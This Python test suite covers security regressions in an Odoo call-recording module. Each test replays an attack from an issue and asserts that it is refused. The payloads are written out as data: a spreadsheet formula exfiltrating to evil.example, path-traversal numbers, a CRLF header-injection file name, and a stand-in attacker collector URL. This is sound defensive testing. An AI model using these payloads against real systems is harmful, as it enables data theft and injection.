"""Every evidence and privacy guarantee, attacked as an ordinary account would.

XML-RPC (``/xmlrpc/2/object``) and HTTP against the running test server,
with the context a client chooses; the ORM with the attacker's user where
the hole is there.  One test (or more) per hole of issue 11; the
numbers in the docstrings are the issue's.
"""

import base64
import csv
import io
import posixpath
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit
from xmlrpc import client as xmlrpclib

from odoo import SUPERUSER_ID, api
from odoo.exceptions import AccessError
from odoo.orm.environments import Transaction
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tests.common import TransactionCase, _super_send
from odoo.tools import mute_logger

from odoo.addons.call_recording.lib.audio import synth_call_wav
from odoo.addons.call_recording.lib.providers.zadarma import webhook_signature

from .common import sha256
from .test_compliance import ComplianceCommon

MUTED = ("odoo.addons.rpc.controllers.xmlrpc", "odoo.http", "odoo.sql_db")


class Catcher:
    """A loopback HTTP server that records who asks what (an attacker's, or a provider's)."""

    def __init__(self):
        self.requests = []
        catcher = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                catcher.requests.append((self.path, dict(self.headers)))
                body = b"{}"
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


class AttackCommon(HttpCase, ComplianceCommon):
    """The compliance set-up (lines, calls of two agents and two companies) and XML-RPC."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.suite_admin = cls._user("cr_suite_admin", "call_recording.group_call_recording_admin")
        cls.service_call = cls._line_call("+3615550100")  # legal obligation, with audio
        cls.news_call = cls._line_call("+3615550200")  # consent line, with audio

    @classmethod
    def _request_handler(cls, s, r, /, **kw):
        """Requests to loopback servers go out (Odoo's tests stop the others)."""
        if urlsplit(r.url).hostname == "127.0.0.1":
            return _super_send(s, r, **kw)
        return super()._request_handler(s, r, **kw)

    def assertRefused(self, user, model, method, *args, **kwargs):
        with mute_logger(*MUTED), self.assertRaises(xmlrpclib.Fault) as caught:
            self.rpc(user, model, method, *args, **kwargs)
        return caught.exception.faultString

    def audio_file(self, call):
        attachment = call._get_audio_attachment()
        return attachment.raw if attachment else None


@tagged("post_install", "-at_install")
class TestEvidenceAttacks(AttackCommon):
    def test_01_handover_serves_only_its_own_package(self):
        """1. A manager pointed a request's package at any attachment, which the
        customer's link then streamed as superuser."""
        customer_user = new_test_user(
            self.env,
            login="cr_sec_customer",
            groups="base.group_portal",
            partner_id=self.customer.id,
        )
        request = (
            self.env["call.recording.request"]
            .with_user(self.manager)
            .create({"partner_id": self.customer.id})
        )
        request.action_check_identity()
        request.action_share_link()
        secret = self.env["ir.attachment"].create(
            {
                "name": "salaries.txt",
                "raw": b"CONFIDENTIAL salaries of company B",
                "res_model": "res.partner",
                "res_id": self.company_b.partner_id.id,
            }
        )
        package = request.package_id
        for vals in (
            {"package_id": secret.id},
            {"package_sha256": sha256(b"CONFIDENTIAL salaries of company B")},
            {"link_expiry": "2099-01-01 00:00:00"},
        ):
            with self.subTest(vals=vals):
                self.assertRefused(
                    self.manager, "call.recording.request", "write", request.ids, vals
                )
        self.assertEqual(request.package_id, package)

        # The package's own content replaced (it is an attachment of a record
        # the manager may write): the link no longer hands it over.
        self.rpc(
            self.manager,
            "ir.attachment",
            "write",
            package.ids,
            {"datas": base64.b64encode(b"CONFIDENTIAL forged package").decode()},
        )
        self.authenticate(customer_user.login, customer_user.login)
        path = f"/call_recording/request/{request.id}/download?token={request._make_token()}"
        with mute_logger(*MUTED):
            response = self.url_open(path)
        self.assertEqual(response.status_code, 404)
        self.assertNotIn(b"CONFIDENTIAL", response.content)

    def test_02_client_context_widens_nothing(self):
        """2. ``call_recording_adapter_config`` sent the account's credentials to
        any address; ``call_recording_purge`` switched the deletion checks off."""
        provider_server, attacker = Catcher(), Catcher()
        self.addCleanup(provider_server.stop)
        self.addCleanup(attacker.stop)
        provider = self.env["call.recording.provider"].create(
            {
                "name": "Twilio (security)",
                "provider_type": "twilio",
                "company_id": self.company.id,
                "base_url": provider_server.url,
                "login": "AC" + "5" * 32,
                "secret": "twilio-auth-token-secret",
                "max_retries": 0,
                "timeout": 5,
            }
        )
        context = {"call_recording_adapter_config": {"base_url": attacker.url, "max_retries": 0}}
        self.rpc(
            self.manager,
            "call.recording.provider",
            "action_test_connection",
            provider.ids,
            context=context,
        )
        self.assertEqual(attacker.requests, [], "the credentials went to the client's address")
        self.assertTrue(provider_server.requests, "the account's own address was asked")
        sync = {"call_recording_adapter_config": {"base_url": attacker.url}}
        with mute_logger("odoo.addons.call_recording.models.call_recording_provider"):
            self.rpc(
                self.manager,
                "call.recording.provider",
                "action_sync_now",
                provider.ids,
                context=sync,
            )
        self.assertEqual(attacker.requests, [])

        purge = {"call_recording_purge": True}
        call = self.service_call
        self.assertRefused(self.suite_admin, "call.recording", "unlink", call.ids, context=purge)
        self.assertRefused(
            self.suite_admin, "call.recording", "write", call.ids, {"audio": False}, context=purge
        )
        self.assertTrue(call.exists())
        self.assertEqual(call.recording_status, "available")
        self.assertEqual(self.audio_file(call), self.audio_bytes)

        # Context keys named as the code's own open nothing either: their
        # values are private objects, never a client's string or boolean.
        for key in ("call_recording_evidence_writer", "call_recording_audio_route"):
            with self.subTest(key=key):
                self.assertRefused(
                    self.manager,
                    "call.recording",
                    "write",
                    self.call_a.ids,
                    {"recording_status": "purged"},
                    context={key: True},
                )
        attachment = self.call_a._get_audio_attachment()
        with self.assertRaises(AccessError):
            self.env["ir.binary"].with_user(self.agent_a).with_context(
                call_recording_audio_route=True
            )._record_to_stream(attachment, "raw")

    def test_03_audio_field_goes_through_every_check(self):
        """3. Writing ``audio`` skipped the access rights and the field's group."""
        other = synth_call_wav(1, seed=303)
        for user in (self.manager, self.agent_a):
            for data in (base64.b64encode(other).decode(), False):
                with self.subTest(user=user.login, data=bool(data)):
                    self.assertRefused(
                        user, "call.recording", "write", self.call_a.ids, {"audio": data}
                    )
        self.assertEqual(self.call_a.recording_status, "available")
        self.assertEqual(self.call_a.audio_sha256, sha256(self.audio_bytes))
        self.assertEqual(self.audio_file(self.call_a), self.audio_bytes)
        self.assertFalse(
            self.env["call.recording.purge.log"].search([("call_reference", "=", self.call_a.name)])
        )

    def test_04_deletion_follows_the_law_not_a_status(self):
        """4. A manager set the status to "none", then an administrator deleted a
        customer-service call years early."""
        call = self.service_call
        self.assertRefused(
            self.manager, "call.recording", "write", call.ids, {"recording_status": "none"}
        )
        self.assertEqual(call.recording_status, "available")
        # Whatever the status says (here as a failed download would leave
        # it), the legal basis and the date decide.
        for status in ("none", "failed", "pending"):
            self.env.cr.execute(
                "UPDATE call_recording SET recording_status = %s WHERE id = %s", [status, call.id]
            )
            self.env.invalidate_all()
            with self.subTest(status=status):
                self.assertRefused(self.suite_admin, "call.recording", "unlink", call.ids)
                self.assertRefused(
                    self.suite_admin, "call.recording", "write", call.ids, {"audio": False}
                )
        self.assertTrue(call.exists())
        self.assertEqual(self.audio_file(call), self.audio_bytes)

    def test_05_evidence_fields_refused_over_rpc(self):
        """5. Managers wrote the reference, the status, the checksum, the type
        (``text/html`` served inline), the provider's ids, requests' and holds'
        states, consent on create."""
        call = self.call_a
        request = (
            self.env["call.recording.request"]
            .with_user(self.manager)
            .create({"partner_id": self.customer.id})
        )
        hold = self.hold(self.call_a | self.call_b, "Dispute 2026/9")
        other_account = self.env["call.recording.provider"].create(
            {"name": "PBX", "provider_type": "push", "company_id": self.company.id}
        )
        cases = [
            (call, {"name": "CR/2026/FAKE"}),
            (call, {"recording_status": "purged"}),
            (call, {"audio_sha256": "0" * 64}),
            (call, {"audio_mimetype": "text/html"}),
            (call, {"audio_size": 1}),
            (call, {"audio_filename": "invoice.html"}),
            (call, {"external_id": "CA-taken-over"}),
            (call, {"provider_id": other_account.id}),
            (call, {"provider_recording_ref": "RE" + "1" * 32}),
            (call, {"import_next_try": "2099-01-01 00:00:00"}),
            (call, {"consent_state": "given"}),
            (call, {"legal_basis": "none"}),
            (call, {"retention_date": "2020-01-01"}),
            (call, {"line_id": self.news_line.id}),
            (call, {"partner_match": "matched"}),
            (call, {"external_number_e164": "+36301111111"}),
            (call, {"start_datetime": "2020-01-01 00:00:00"}),
            (call, {"duration": 1}),
            (call, {"caller_number": "+36 30 111 1111"}),
            (request, {"state": "delivered"}),
            (request, {"delivered_date": "2026-01-01 00:00:00"}),
            (request, {"name": "REQ/FAKE"}),
            (hold, {"state": "released"}),
            (hold, {"release_reason": "nothing"}),
            (hold, {"call_ids": [(3, self.call_b.id)]}),
            (hold, {"call_ids": [(6, 0, self.call_a.ids)]}),
            (hold, {"partner_id": self.customer.id}),
        ]
        before = {
            (record._name, fname): record.sudo()[fname] for record, vals in cases for fname in vals
        }
        for record, vals in cases:
            with self.subTest(model=record._name, vals=vals):
                self.assertRefused(self.manager, record._name, "write", record.ids, vals)
        for record, vals in cases:
            for fname in vals:
                self.assertEqual(record.sudo()[fname], before[record._name, fname], fname)
        self.assertEqual(hold.call_ids, self.call_a | self.call_b)
        self.assertEqual(hold.state, "active")

        # On create: no evidence from the client, neither in the values ...
        base = {
            "direction": "inbound",
            "caller_number": "+36 30 777 1234",
            "company_id": self.company.id,
        }
        for vals in (
            {"consent_state": "given", "consent_source": "agent"},
            {"recording_status": "available", "audio_sha256": "0" * 64},
            {"name": "CR/2026/CHOSEN"},
            {"legal_basis": "consent", "retention_date": "2026-02-01"},
        ):
            with self.subTest(create=vals):
                self.assertRefused(self.manager, "call.recording", "create", {**base, **vals})
        # ... nor through the context's defaults.
        context = {
            "default_consent_state": "given",
            "default_recording_status": "available",
            "default_name": "CR/2026/CHOSEN",
            "default_legal_basis": "none",
        }
        call_id = self.rpc(self.manager, "call.recording", "create", base, context=context)
        created = self.env["call.recording"].browse(call_id)
        self.assertEqual(created.consent_state, "not_asked")
        self.assertEqual(created.recording_status, "none")
        self.assertNotEqual(created.name, "CR/2026/CHOSEN")
        self.assertEqual(created.legal_basis, "legal")
        hold_id = self.rpc(
            self.manager,
            "call.recording.hold",
            "create",
            {"name": "x", "call_ids": [(6, 0, call.ids)]},
            context={"default_state": "released"},
        )
        self.assertEqual(self.env["call.recording.hold"].browse(hold_id).state, "active")

        # What a manager may still change is in the call's chatter.
        self.rpc(self.manager, "call.recording", "write", call.ids, {"user_id": self.agent_b.id})
        tracked = call.message_ids.tracking_value_ids.filtered(
            lambda t: t.field_id.name == "user_id"
        )
        self.assertEqual(tracked.new_value_integer, self.agent_b.id)

    def test_06_refusal_waits_for_the_hold(self):
        """6. A consent refusal (the agent's, or a contact created with a refusal)
        deleted held recordings, and unmatched calls' audio in every company."""
        call = self.news_call
        hold = self.hold(call)
        self.rpc(self.agent_a, "call.recording", "action_consent_refused", call.ids)
        self.assertEqual(call.consent_state, "refused", "the refusal is recorded")
        self.assertEqual(call.recording_status, "available", "the hold keeps the audio")
        self.assertEqual(self.audio_file(call), self.audio_bytes)
        hold.with_user(self.manager).action_release(reason="Dispute settled")
        self.assertEqual(call.recording_status, "refused", "applied when the hold is released")
        self.assertPurged(call, "consent")

        # An agent of company A creates a contact with a number and "refuses
        # recording": no recording of any company is deleted by it.
        self.env["call.recording.line"].create(
            {
                "name": "Newsroom B",
                "number": "+36 1 555 0900",
                "policy": "consent",
                "company_id": self.company_b.id,
            }
        )
        victim_b = self._call(
            self.manager_b,
            "+36 70 123 4567",
            company=self.company_b,
            callee_number="+3615550900",
            audio=True,
        )
        victim_a = self._line_call("+3615550200", caller_number="+36 70 123 4567")
        self.assertEqual(
            (victim_a.legal_basis, victim_b.legal_basis, victim_b.partner_match),
            ("consent", "consent", "unknown"),
        )
        self.rpc(
            self.agent_a,
            "res.partner",
            "create",
            {"name": "Nobody", "phone": "+36 70 123 4567", "call_recording_refused": True},
        )
        for victim in (victim_a, victim_b):
            self.assertEqual(victim.recording_status, "available")
            self.assertEqual(self.audio_file(victim), self.audio_bytes)

    def test_07_held_customer_stays(self):
        """7. Deleting the contact emptied the hold, which still showed as active."""
        hold = self.hold(name="Authority request", partner_id=self.customer.id)
        held = self.call_a | self.call_b | self.service_call
        self.assertTrue(all(held.mapped("legal_hold")))
        self.assertRefused(self.agent_a, "res.partner", "unlink", self.customer.ids)
        self.assertTrue(self.customer.exists())
        self.assertEqual(hold.partner_id, self.customer)
        # A call linked to someone else stays held all the same.
        someone = self.env["res.partner"].create({"name": "Someone Else"})
        self.rpc(
            self.manager, "call.recording", "write", self.call_b.ids, {"partner_id": someone.id}
        )
        self.assertTrue(self.call_b.legal_hold)
        self.assertIn(self.call_b, hold.call_ids)
        self.assertRefused(self.suite_admin, "call.recording", "unlink", self.call_b.ids)

    def test_09_new_api_url_clears_the_secret(self):
        """9. An administrator of the suite (not of Odoo) pointed the account at
        their server and received its secret."""
        provider = self.env["call.recording.provider"].create(
            {
                "name": "Aircall (security)",
                "provider_type": "aircall",
                "company_id": self.company.id,
                "login": "aircall-id",
                "secret": "aircall-api-token-secret",
            }
        )
        self.rpc(
            self.suite_admin,
            "call.recording.provider",
            "write",
            provider.ids,
            {"base_url": "https://collector.attacker.example"},
        )
        self.assertEqual(provider.base_url, "https://collector.attacker.example")
        self.assertFalse(provider.sudo().secret, "the secret must not follow a new address")
        # The same address again changes nothing; a system administrator
        # (who may read the secret) moves an account with it.
        provider.sudo().secret = "entered-again"
        self.rpc(
            self.suite_admin,
            "call.recording.provider",
            "write",
            provider.ids,
            {"base_url": "https://collector.attacker.example/", "timeout": 10},
        )
        self.assertEqual(provider.sudo().secret, "entered-again")
        admin = self.env.ref("base.user_admin")
        admin.company_ids |= self.company
        provider.with_user(admin).with_context(allowed_company_ids=self.company.ids).write(
            {"base_url": "https://api.aircall.io"}
        )
        self.assertEqual(provider.sudo().secret, "entered-again")

    def test_10_agents_mapped_by_login_only(self):
        """10. An agent set their own e-mail to a new colleague's and received
        that colleague's calls."""
        integration = self._user("cr_sec_pbx", "call_recording.group_call_recording_integration")
        account = self._push_account("Office PBX (security)", integration)
        # Users may edit their own e-mail (their preferences): the attacker does.
        self.rpc(
            self.agent_b,
            "res.users",
            "write",
            self.agent_b.ids,
            {"email": "new.colleague@example.com"},
        )
        self.assertEqual(self.agent_b.email, "new.colleague@example.com")

        def push(external_id, agent_email, agent_id):
            answer = (
                self.env["call.recording"]
                .with_user(integration)
                ._push_call(
                    {
                        "provider": account.id,
                        "external_id": external_id,
                        "direction": "inbound",
                        "start": "2026-11-20T09:30:00+01:00",
                        "caller_number": "+36 30 901 2345",
                        "callee_number": "+36 1 555 0100",
                        "agent_email": agent_email,
                        "agent_external_id": agent_id,
                    }
                )
            )
            return self.env["call.recording"].browse(answer["id"])

        def row(agent_id):
            return account.user_map_ids.filtered(lambda r: r.external_user_id == agent_id)

        call = push("sec-1", "new.colleague@example.com", "ext-7")
        self.assertFalse(call.user_id, "a self-edited e-mail maps nobody")
        self.assertFalse(row("ext-7").user_id)
        self.assertIn("new.colleague@example.com", row("ext-7").match_note)

        colleague = self._user(
            "New.Colleague@example.com", "call_recording.group_call_recording_user"
        )
        self.assertEqual(push("sec-2", "new.colleague@example.com", "ext-8").user_id, colleague)
        self.assertFalse(row("ext-8").match_note)

        # Two logins that differ in case only: nobody, and the row says why.
        self._user("twin@example.com", "call_recording.group_call_recording_user")
        self._user("TWIN@example.com", "call_recording.group_call_recording_user")
        self.assertFalse(push("sec-3", "twin@example.com", "ext-9").user_id)
        self.assertIn("several", row("ext-9").match_note)

        # An administrator's explicit link is what counts from then on.
        row("ext-7").user_id = colleague
        self.assertFalse(row("ext-7").match_note)
        self.assertEqual(push("sec-4", "new.colleague@example.com", "ext-7").user_id, colleague)

    def test_12_crafted_numbers_in_the_handover(self):
        """12. A number such as ``../../x`` left its folder in the ZIP; metadata
        cells started spreadsheet formulas."""
        formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
        escaping = self._call(
            self.agent_a, "../../../../tmp/evil1", audio=True, partner_id=self.customer.id
        )
        spreadsheet = self._call(self.agent_a, formula, audio=True, partner_id=self.customer.id)
        request = (
            self.env["call.recording.request"]
            .with_user(self.manager)
            .create({"partner_id": self.customer.id})
        )
        self.assertFalse((escaping | spreadsheet) - request.call_ids)
        request.action_check_identity()
        request.action_prepare_package()
        with zipfile.ZipFile(io.BytesIO(request.package_id.raw)) as archive:
            names = archive.namelist()
            sheet = archive.read("metadata.csv").decode()
        for name in names:
            with self.subTest(name=name):
                self.assertEqual(posixpath.normpath(name), name)
                self.assertNotIn("..", name.split("/"))
                self.assertFalse(name.startswith("/"))
        recordings = [n for n in names if n.startswith("recordings/")]
        self.assertEqual(len(recordings), len(request.call_ids))
        cells = [cell for row in csv.reader(io.StringIO(sheet)) for cell in row]
        self.assertIn("'" + formula, cells)
        for cell in cells:
            self.assertFalse(cell.startswith(("=", "@")), cell)
            self.assertFalse(cell.startswith(("+", "-")) and not cell[1:2].isdigit(), cell)

    def test_12_file_names_and_headers(self):
        """12. A line break in a pushed file name made the audio route answer 500."""
        integration = self._user("cr_sec_pbx2", "call_recording.group_call_recording_integration")
        account = self._push_account("PBX (names)", integration)
        Call = self.env["call.recording"].with_user(integration)
        vals = {
            "provider": account.id,
            "external_id": "names-1",
            "direction": "inbound",
            "start": "2026-11-20T09:30:00+01:00",
            "caller_number": "+36 30 901 2345",
            "callee_number": "+36 1 555 0100",
            "audio": base64.b64encode(self.audio_bytes).decode(),
            "audio_filename": "rec.wav\r\nSet-Cookie: session_id=stolen",
        }
        with self.assertRaisesRegex(Exception, "audio_filename: contains control characters"):
            Call.push_call(vals)
        answer = Call.push_call(dict(vals, audio_filename="../../recs/2026/rec 1.wav"))
        self.assertEqual(
            self.env["call.recording"].browse(answer["id"]).audio_filename, "rec_1.wav"
        )

        # A name stored earlier with a line break (and a type that is no
        # audio) is served safely, as a download.
        self.env.cr.execute(
            "UPDATE call_recording SET audio_filename = %s, audio_mimetype = %s WHERE id = %s",
            ["rec.wav\r\nX-Injected: 1", "text/html", self.call_a.id],
        )
        self.env.invalidate_all()
        self.authenticate(self.agent_a.login, self.agent_a.login)
        with mute_logger(*MUTED):
            response = self.url_open(f"/call_recording/{self.call_a.id}/audio")
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.content, self.audio_bytes)
        self.assertNotIn("X-Injected", response.headers)
        self.assertNotIn("text/html", response.headers["Content-Type"])
        self.assertIn("attachment", response.headers["Content-Disposition"])
        self.assertNotIn("\n", response.headers["Content-Disposition"])

    def test_12_webhook_bodies(self):
        """12. Deeply nested JSON raised an uncaught RecursionError; bodies were
        parsed up to Odoo's whole request limit."""
        provider = self.env["call.recording.provider"].create(
            {
                "name": "Aircall (webhooks)",
                "provider_type": "aircall",
                "company_id": self.company.id,
                "webhook_secret": "aircall-webhook-token",
            }
        )
        url = f"/call_recording/webhook/aircall/{provider.sudo().webhook_key}"
        headers = {"Content-Type": "application/json"}
        with mute_logger(*MUTED, "odoo.addons.call_recording.controllers.webhook"):
            nested = self.url_open(url, data=b"[" * 100_000 + b"]" * 100_000, headers=headers)
            self.assertEqual(nested.status_code, 400)
            huge = self.url_open(
                url, data=b'{"token": "' + b"x" * (2 * 1024 * 1024) + b'"}', headers=headers
            )
            self.assertEqual(huge.status_code, 413)
        self.assertFalse(
            self.env["call.recording.webhook.event"].search([("provider_id", "=", provider.id)])
        )

    def test_13_zadarma_signature_on_every_event(self):
        """13. NOTIFY_START and NOTIFY_END were answered 200 with a forged Signature."""
        secret = "zadarma-secret-key"
        provider = self.env["call.recording.provider"].create(
            {
                "name": "Zadarma (signatures)",
                "provider_type": "zadarma",
                "company_id": self.company.id,
                "login": "zadarma-key",
                "secret": secret,
            }
        )
        url = f"/call_recording/webhook/zadarma/{provider.sudo().webhook_key}"
        start = {
            "event": "NOTIFY_START",
            "call_start": "2026-11-20 09:30:00",
            "pbx_call_id": "in_1234",
            "caller_id": "+36309012345",
            "called_did": "+3615550100",
        }
        end = dict(start, event="NOTIFY_END", duration="42", disposition="answered")
        out = {
            "event": "NOTIFY_OUT_START",
            "call_start": "2026-11-20 09:30:00",
            "pbx_call_id": "out_1",
            "internal": "100",
            "destination": "+36309012345",
        }
        with mute_logger(*MUTED, "odoo.addons.call_recording.controllers.webhook"):
            for form in (start, end, out, dict(start, event="NOTIFY_SOMETHING_NEW")):
                with self.subTest(event=form["event"]):
                    for signature in ("Zm9yZ2Vk", webhook_signature("wrong", "x")):
                        response = self.url_open(url, data=form, headers={"Signature": signature})
                        self.assertEqual(response.status_code, 403)
                    self.assertEqual(self.url_open(url, data=form).status_code, 403)
            # Signed as Zadarma signs them: acknowledged.
            for form, fields in (
                (start, ("caller_id", "called_did", "call_start")),
                (end, ("caller_id", "called_did", "call_start")),
                (out, ("internal", "destination", "call_start")),
            ):
                signature = webhook_signature(secret, *(form[f] for f in fields))
                response = self.url_open(url, data=form, headers={"Signature": signature})
                self.assertEqual(response.status_code, 200, form["event"])

    def test_15_request_refusal_reason_stays_with_managers(self):
        """15. The reason of a refused request was posted on the customer, where
        every employee reads it."""
        request = (
            self.env["call.recording.request"]
            .with_user(self.manager)
            .create({"partner_id": self.customer.id, "refuse_reason": "Forged identity card"})
        )
        request.with_user(self.manager).action_refuse()
        messages = self.rpc(
            self.internal,
            "mail.message",
            "search_read",
            [("model", "=", "res.partner"), ("res_id", "=", self.customer.id)],
            fields=["body"],
        )
        bodies = " ".join(m["body"] or "" for m in messages)
        self.assertIn(request.name, bodies, "the customer's chatter still tells about the request")
        self.assertNotIn("Forged", bodies)
        self.assertIn("Forged", request.refuse_reason)

    def test_15_audio_route_tells_no_ids_apart(self):
        """15. The route answered 404 for a missing call and 403 for another's."""
        self.authenticate(self.agent_b.login, self.agent_b.login)
        with mute_logger(*MUTED):
            others = self.url_open(f"/call_recording/{self.call_a.id}/audio")
            missing = self.url_open("/call_recording/999999999/audio")
        self.assertEqual(others.status_code, missing.status_code)
        self.assertEqual(others.status_code, 404)
        self.assertNotIn(self.audio_bytes[:64], others.content)


@tagged("post_install", "-at_install")
class TestPlayLogConcurrency(TransactionCase):
    """14. Two first requests of one user at the same moment (a browser's parallel
    Range requests, two workers) both logged a play.

    Two real transactions on committed data, as two workers would run them:
    each has begun (taken its snapshot) before either logs.
    """

    def test_parallel_first_requests_log_one_play(self):
        registry = self.registry
        admin_id = self.env.ref("base.user_admin").id
        with registry.cursor() as cr:
            env = api.Environment(
                cr,
                SUPERUSER_ID,
                {
                    "tracking_disable": True,
                    "mail_create_nolog": True,
                    "mail_create_nosubscribe": True,
                },
            )
            call = env["call.recording"].create(
                {
                    "direction": "inbound",
                    "caller_number": "+36301239876",
                    "callee_number": "+3615550100",
                    "user_id": admin_id,
                    "company_id": env.ref("base.main_company").id,
                }
            )
            call_id = call.id
            # committed when the cursor closes: the two requests see the call

        def cleanup():
            with registry.cursor() as cr:
                cr.execute("DELETE FROM call_recording_access_log WHERE call_id = %s", [call_id])
                for table, column in (("mail_message", "model"), ("mail_followers", "res_model")):
                    cr.execute(
                        f"DELETE FROM {table} WHERE {column} = 'call.recording' AND res_id = %s",  # noqa: S608
                        [call_id],
                    )
                cr.execute("DELETE FROM call_recording WHERE id = %s", [call_id])

        self.addCleanup(cleanup)
        started = threading.Barrier(2, timeout=30)
        errors = []

        def request():
            try:
                with registry.cursor() as cr:
                    # (the test runner holds the registries' lock: no lookup)
                    cr.transaction = Transaction(registry)
                    env = api.Environment(cr, admin_id, {})
                    cr.execute("SELECT 1")  # the request's transaction has begun
                    started.wait()
                    env["call.recording"].browse(call_id)._log_play(ip_address="127.0.0.1")
                    # the response is being prepared: not committed yet
                    threading.Event().wait(0.5)
            except Exception as exc:
                errors.append(exc)

        threads = [threading.Thread(target=request) for _ in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        self.assertEqual(errors, [])
        with registry.cursor() as cr:
            cr.execute(
                "SELECT count(*) FROM call_recording_access_log "
                "WHERE call_id = %s AND access_type = 'play'",
                [call_id],
            )
            self.assertEqual(cr.fetchone()[0], 1)
